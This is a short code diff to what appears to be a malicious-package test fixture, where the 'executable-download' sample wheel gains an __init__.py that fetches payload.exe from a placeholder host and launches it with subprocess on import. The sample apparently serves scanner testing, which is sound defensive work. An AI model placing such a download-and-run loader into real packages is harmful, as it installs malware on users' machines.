@@ -112,7 +112,12 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
     "executable-download": (
         "fetch-0.1-py3-none-any.whl",
         wheel(
-            "fetch", "0.1", {"fetch/__init__.py": "URL = 'https://example.invalid/payload.exe'\n"}
+            "fetch",
+            "0.1",
+            {
+                "fetch/__init__.py": "import subprocess, urllib.request\nURL = 'https://example.invalid/payload.exe'\n"
+                "urllib.request.urlretrieve(URL, 'p.exe')\nsubprocess.Popen('p.exe')\n"
+            },
         ),
     ),
     "pth-exec": (
